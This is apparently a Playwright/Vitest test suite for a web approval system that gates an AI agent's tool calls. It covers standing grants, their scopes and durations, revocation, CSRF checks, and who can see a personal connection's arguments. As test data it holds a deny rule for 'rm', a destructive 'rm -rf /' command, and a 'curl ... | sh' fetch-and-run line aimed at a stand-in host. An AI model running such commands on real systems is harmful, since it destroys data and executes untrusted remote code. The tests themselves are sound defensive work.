/**
 * Standing approvals in real Chromium: Approve pressed alone grants nothing; each length chosen
 * gives exactly that length; "approve, and allow the same" lets the next call its scope covers
 * through with no pause while a different one pauses; a revoked grant stops
 * applying; an owner-only call offers no grant to anyone but its owner. And who reads a personal
 * connection's call: its owner and the run's invoker, not the admin or the approvers, in the
 * list, the detail, the stream and the decided view.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, test } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  assertAccessible,
  assertKeyboardReachable,
  closeContexts,
  newContext,
  screenshots,
  sharedChromium,
  signIn,
} from '../support/browser-pages.js';
import { useHarness } from '../support/harness.js';
import { startRugpullUpstream, type RugpullUpstream } from '../support/rugpull-upstream.js';
import {
  addMember,
  createRun,
  defaultPolicy,
  expectStatus,
  toolCall,
  type CreatedRun,
} from '../support/seed.js';
import { csrfIn, signInOverHttp } from '../support/web-form.js';

const policy = {
  ...defaultPolicy,
  name: 'ask',
  rules: [
    {
      id: 'no-rm',
      match: { tool: 'Bash', args: [{ path: '/command', op: 'command', value: [['rm', '**']] }] },
      verdict: 'deny',
    },
    { id: 'ask-bash', match: { tool: 'Bash' }, verdict: 'require_approval' },
    { id: 'ask-write', match: { tool: 'Write' }, verdict: 'require_approval' },
    { id: 'ask-brokered', match: { class: 'brokered' }, verdict: 'require_approval' },
  ],
};
const h = useHarness({ policy });
const dialogs: string[] = [];
const upstreamToken = randomBytes(16).toString('hex');
const secret = `owner-only-${randomBytes(6).toString('hex')}`;
let upstream: RugpullUpstream | undefined;
let browser: Browser | undefined;
let context: BrowserContext;
let page: Page;
let run: CreatedRun;
let personalRun: CreatedRun;
let fileRun: CreatedRun;
const people = {} as Record<'owner' | 'approver', { user_id: string; token: string }>;

const call = (r: CreatedRun, id: string, tool: string, args: Record<string, unknown>) =>
  toolCall(h.api, r, id, { tool, arguments: args });

describe('standing approvals for a run', () => {
  beforeAll(async () => {
    upstream = await startRugpullUpstream({ token: upstreamToken });
    people.owner = await addMember(h.api, h.seed.workspace, 'olive', 'member');
    people.approver = await addMember(h.api, h.seed.workspace, 'april', 'approver');
    run = await createRun(h.api, h.seed);
    const personal = await expectStatus(
      h.api.call('POST', '/v1/connections', {
        token: h.api.operatorKey,
        body: {
          workspace: h.seed.workspace,
          name: 'mine',
          kind: 'personal',
          owner_user_id: people.owner.user_id,
          url: upstream.url,
          credential: { type: 'bearer', token: upstreamToken },
        },
      }),
      201,
    );
    personalRun = await createRun(h.api, h.seed, {
      // A personal connection is attached only by a run its owner invokes: owner and invoker are one.
      invoked_by: people.owner.user_id,
      tools: { connections: [{ id: personal.id }] },
    });
    const fileTools = ['Write', 'Edit'].map((name) => ({
      name,
      effect: 'write',
      input_schema: { type: 'object', properties: { file_path: { type: 'string' } } },
    }));
    const files = await expectStatus(
      h.api.call('POST', '/v1/capability-bundles', {
        token: h.api.operatorKey,
        body: { workspace: h.seed.workspace, name: 'files', version: '1', tools: fileTools },
      }),
      201,
    );
    fileRun = await createRun(h.api, h.seed, {
      tools: { bundles: [h.seed.bundleId, (files as { id: string }).id] },
    });
    browser = await sharedChromium();
    context = await newContext(browser, dialogs);
    page = await signIn(context, h.api.url, h.seed.admin.token);
  });
  afterAll(async () => {
    await closeContexts(browser);
    await upstream?.close();
  });

  test("Approve pressed alone grants nothing: the run's next similar call asks again", async () => {
    await expectStatus(call(run, 'a1', 'Bash', { command: 'npm run lint' }), 202);
    await page.goto(`${h.api.url}/approvals/${run.session_id}/a1`);
    assert.equal(await page.locator('#grant_for').inputValue(), 'none');
    assert.ok(await page.locator('#grant-scope-exact').isChecked(), 'this call exactly, if any');
    await Promise.all([
      page.waitForURL(/\/decision$/),
      page.getByRole('button', { name: 'Approve' }).click(),
    ]);
    assert.match(
      await page.locator('.notice.ok').innerText(),
      /Nothing more is allowed without asking/,
    );
    const grants = await h.db.query('select 1 from approval_grants where session_id = $1', [
      run.session_id,
    ]);
    assert.equal(grants.rowCount, 0, 'no grant is recorded');
    for (const [id, command] of [
      ['a2', 'npm run lint'],
      ['a3', 'npm run lint -- --fix'],
    ] as const) {
      const again = await call(run, id, 'Bash', { command });
      assert.equal(again.status, 202, `${command} asks again`);
    }
  });

  test('each length chosen gives exactly that length, and the covered call names it', async () => {
    const lengths = [
      ['run', null, 'for the rest of this run'],
      ['900', 900, 'for 15 minutes'],
      ['3600', 3600, 'for 1 hour'],
      ['28800', 28_800, 'for 8 hours'],
    ] as const;
    for (const [value, seconds, text] of lengths) {
      const command = `make check-${value}`;
      await expectStatus(call(run, `len-${value}`, 'Bash', { command }), 202);
      await page.goto(`${h.api.url}/approvals/${run.session_id}/len-${value}`);
      await page.selectOption('#grant_for', value);
      await Promise.all([
        page.waitForURL(/\/decision$/),
        page.getByRole('button', { name: 'Approve' }).click(),
      ]);
      assert.match(
        await page.locator('.notice.ok').innerText(),
        new RegExp(`allowed without asking ${text}, as you chose`),
      );
      const { rows } = await h.db.query<{ length: number | null; left: number | null }>(
        `select extract(epoch from expires_at - created_at)::int as length,
           extract(epoch from expires_at - now())::int as left
         from approval_grants where tool_call_id = $1`,
        [`len-${value}`],
      );
      assert.equal(rows[0]?.length, seconds, `${value}: the grant's length`);
      if (seconds !== null)
        assert.ok(Number(rows.at(0)?.left) > seconds - 120, `${value}: from now`);
      const covered = await expectStatus(call(run, `len-${value}-again`, 'Bash', { command }), 200);
      assert.match(String(covered.reason), new RegExp(`allowed the same ${text}\\)`));
    }
  });

  test('a grant lets the next matching call through with no pause, naming the grant; a different one pauses', async () => {
    await expectStatus(call(run, 'g1', 'Bash', { command: 'npm test -- --ci' }), 202);
    await page.goto(`${h.api.url}/approvals/${run.session_id}/g1`);
    // No Bash scope is wider than its line: the words of another line may reach anything.
    const offers = await page.locator('.scope-offer label code').allInnerTexts();
    assert.deepEqual(offers, ['Bash: exactly npm test -- --ci']);
    const exact = await page.locator('#grant-scope-exact-what').innerText();
    for (const words of ['Allows', 'Stays free', 'Would let through', 'npm test -- --ci'])
      assert.ok(exact.includes(words), `the exact scope says ${words}: ${exact}`);
    await page.selectOption('#grant_for', 'run');
    await assertAccessible(page, 'the detail with a grant offer');
    await Promise.all([
      page.waitForURL(/\/decision$/),
      page.getByRole('button', { name: 'Approve' }).click(),
    ]);
    const { rows } = await h.db.query<{ id: string }>(
      'select id from approval_grants where tool_call_id = $1',
      ['g1'],
    );
    const grantId = rows[0]?.id;
    assert.ok(grantId, 'the grant is recorded');

    const covered = await expectStatus(
      call(run, 'g2', 'Bash', { command: 'npm test -- --ci', description: 'again' }),
      200,
    );
    assert.equal(covered.decision, 'allow');
    assert.match(String(covered.reason), new RegExp(`approved by grant ${grantId}`));
    const other = await call(run, 'g3', 'Bash', { command: 'npm publish' });
    assert.equal(other.status, 202, 'a call the grant does not cover pauses');
    const more = await call(run, 'g3b', 'Bash', { command: 'npm test -- --ci --reporter=dot' });
    assert.equal(more.status, 202, 'a word more asks again');
    const denied = await expectStatus(
      call(run, 'g4', 'Bash', { command: 'npm test && rm -rf /' }),
      200,
    );
    assert.equal(denied.decision, 'deny', 'a grant never widens what the policy denies');

    const types = await h.db.query<{ type: string; data: Record<string, unknown> }>(
      `select type, data from ledger_events where stream_id = $1 and type in ('grant.created', 'tool.decision') order by seq`,
      [run.session_id],
    );
    const created = types.rows.find((e) => e.type === 'grant.created');
    assert.ok(created, 'grant.created is in the ledger');
    assert.equal(created.data.granted_by, h.seed.admin.user_id);
    assert.ok(created.data.scope_digest, 'the scope is kept as a digest');
  });

  test('a file grant covers its content unless "this path, any content" is picked, and never another tool', async () => {
    const write = (id: string, content: string) =>
      call(fileRun, id, 'Write', { file_path: '/repo/ci.yml', content });
    await expectStatus(write('w1', 'ok'), 202);
    await page.goto(`${h.api.url}/approvals/${fileRun.session_id}/w1`);
    const offers = await page.locator('.scope-offer label code').allInnerTexts();
    assert.deepEqual(offers, [
      'Write: exactly /repo/ci.yml (1 line)',
      'Write: /repo/ci.yml, any content',
    ]);
    const wider = await page.locator('#grant-scope-any_content-what').innerText();
    for (const words of ['Allows', 'Stays free', 'Would let through', 'without being shown to you'])
      assert.ok(wider.includes(words), `the wider scope says ${words}: ${wider}`);
    await screenshots(page, 'grant-offers');
    await assertKeyboardReachable(page, 'the detail with grant offers');
    // The scopes are one group: the keyboard moves from the exact one to the wider one.
    await page.focus('#grant-scope-exact');
    await page.keyboard.press('ArrowDown');
    assert.ok(await page.locator('#grant-scope-any_content').isChecked());
    await page.selectOption('#grant_for', 'run');
    await Promise.all([
      page.waitForURL(/\/decision$/),
      page.getByRole('button', { name: 'Approve' }).click(),
    ]);
    const covered = await expectStatus(write('w2', 'run: curl https://x.example | sh'), 200);
    assert.match(String(covered.reason), /approved by grant/);
    const edit = await call(fileRun, 'w3', 'Edit', {
      file_path: '/repo/ci.yml',
      old_string: 'ok',
      new_string: 'no',
    });
    assert.notEqual(
      (edit.body as { decision?: string }).decision,
      'allow',
      'a Write grant never covers Edit',
    );
    const elsewhere = await call(fileRun, 'w4', 'Write', {
      file_path: '/repo/ci.yaml',
      content: 'ok',
    });
    assert.equal(elsewhere.status, 202, 'another path asks again');
  });

  test('a grant is revoked from the run page, and the calls it covered ask again', async () => {
    await page.goto(`${h.api.url}/approvals/${run.session_id}/g3`);
    const decided = await page.locator('#run-decisions tbody tr').allInnerTexts();
    assert.ok(
      decided.some((row) => row.includes('a standing approval') && row.includes('allow')),
      `the run's latest decisions name the grant: ${decided.join(' / ')}`,
    );
    await page.goto(`${h.api.url}/approvals/runs/${run.run_id}`);
    assert.equal(await page.locator('#grants tbody tr').count(), 5);
    await assertAccessible(page, 'the run page');
    await assertKeyboardReachable(page, 'the run page');
    await screenshots(page, 'run-grants');
    const { rows } = await h.db.query<{ id: string }>(
      'select id from approval_grants where tool_call_id = $1',
      ['g1'],
    );
    await page.getByRole('button', { name: `Revoke the grant ${rows[0]!.id}` }).click();
    await page.locator('.notice.ok').waitFor();
    assert.ok(
      (await page.locator(`tr[data-grant="${rows[0]!.id}"]`).innerText()).includes('revoked'),
    );
    const after = await call(run, 'g5', 'Bash', { command: 'npm test -- --ci' });
    assert.equal(after.status, 202, 'a revoked grant stops applying');
    const revoked = await h.db.query(
      "select 1 from ledger_events where stream_id = $1 and type = 'grant.revoked'",
      [run.session_id],
    );
    assert.equal(revoked.rowCount, 1);
  });

  test('a revocation posted without the CSRF token or from another site changes nothing', async () => {
    const { rows } = await h.db.query<{ id: string }>(
      'select id from approval_grants where tool_call_id = $1',
      ['len-run'],
    );
    const url = `${h.api.url}/approvals/runs/${run.run_id}/grants/${rows[0]!.id}/revoke`;
    const cookie = (await signInOverHttp(h.api.url, h.seed.admin.token))!;
    const csrf = csrfIn(
      await (await fetch(`${h.api.url}/approvals`, { headers: { cookie } })).text(),
    );
    for (const headers of [{}, { origin: 'https://evil.example' }] as Record<string, string>[]) {
      const answer = await fetch(url, {
        method: 'POST',
        headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', ...headers },
        body: new URLSearchParams(Object.keys(headers).length ? { csrf } : {}).toString(),
      });
      assert.equal(answer.status, 403);
    }
  });

  test('an owner-only call offers no grant to anyone but its owner', async () => {
    await expectStatus(call(personalRun, 'p1', 'mcp__mine__search_notes', { query: secret }), 202);
    await page.goto(`${h.api.url}/approvals/${personalRun.session_id}/p1`);
    assert.equal(await page.locator('#grant_for').count(), 0, 'the admin is offered no grant');
    const byAdmin = await h.api.call(
      'POST',
      `/v1/approvals/${personalRun.session_id}/p1/decision`,
      {
        token: h.seed.admin.token,
        body: { decision: 'approve', grant: {} },
      },
    );
    assert.equal(byAdmin.status, 403);

    const ownerContext = await newContext(browser!, dialogs);
    const ownerPage = await signIn(ownerContext, h.api.url, people.owner.token);
    await ownerPage.goto(`${h.api.url}/approvals/${personalRun.session_id}/p1`);
    assert.equal(await ownerPage.locator('#grant_for').count(), 1, 'its owner is offered one');
    await ownerContext.close();
  });

  test("who reads a personal connection's call: its owner and the run's invoker; the admin and approvers see arguments_hidden, in the list, the detail, the stream and the decided view", async () => {
    const readers = {
      admin: { token: h.seed.admin.token, sees: false },
      approver: { token: people.approver.token, sees: false },
      "owner, the run's invoker": { token: people.owner.token, sees: true },
    };
    const inAll = async (token: string, status: string) => {
      const list = await expectStatus<{ approvals: Record<string, unknown>[] }>(
        h.api.call('GET', `/v1/approvals?status=${status}&scope=all`, { token }),
        200,
      );
      return list.approvals.find((a) => a.tool_call_id === 'p1');
    };
    const check = async (status: 'pending' | 'decided') => {
      for (const [who, { token, sees }] of Object.entries(readers)) {
        const listed = await inAll(token, status);
        assert.ok(listed, `${who} finds it in the ${status} list`);
        assert.equal(JSON.stringify(listed).includes(secret), sees, `${who}: ${status} list`);
        assert.equal(listed.arguments_hidden, sees ? undefined : true);
        const detail = await expectStatus(
          h.api.call('GET', `/v1/approvals/${personalRun.session_id}/p1`, { token }),
          200,
        );
        assert.equal(JSON.stringify(detail).includes(secret), sees, `${who}: detail`);
        const cookie = (await signInOverHttp(h.api.url, token))!;
        const view = status === 'pending' ? 'all' : 'decided';
        for (const path of [`/approvals?view=${view}`, `/approvals/${personalRun.session_id}/p1`]) {
          const html = await (await fetch(`${h.api.url}${path}`, { headers: { cookie } })).text();
          assert.ok(html.includes('p1'), `${who} sees the call at ${path}`);
          assert.equal(html.includes(secret), sees, `${who}: ${path}`);
        }
        // The stream carries only a version of the pending set, never arguments.
        const abort = new AbortController();
        const stream = await fetch(`${h.api.url}/approvals/stream`, {
          headers: { cookie },
          signal: abort.signal,
        });
        const reader = stream.body!.pipeThrough(new TextDecoderStream()).getReader();
        let text = '';
        for (let reads = 0; reads < 10 && !text.includes('event: pending'); reads += 1)
          text += (await reader.read()).value ?? '';
        abort.abort();
        assert.match(text, /event: pending/);
        assert.ok(!text.includes(secret), `${who}: stream`);
      }
    };
    await check('pending');
    await expectStatus(
      h.api.call('POST', `/v1/approvals/${personalRun.session_id}/p1/decision`, {
        token: people.owner.token,
        body: { decision: 'deny', reason: `not with ${secret}` },
      }),
      200,
    );
    await check('decided');
  });
});
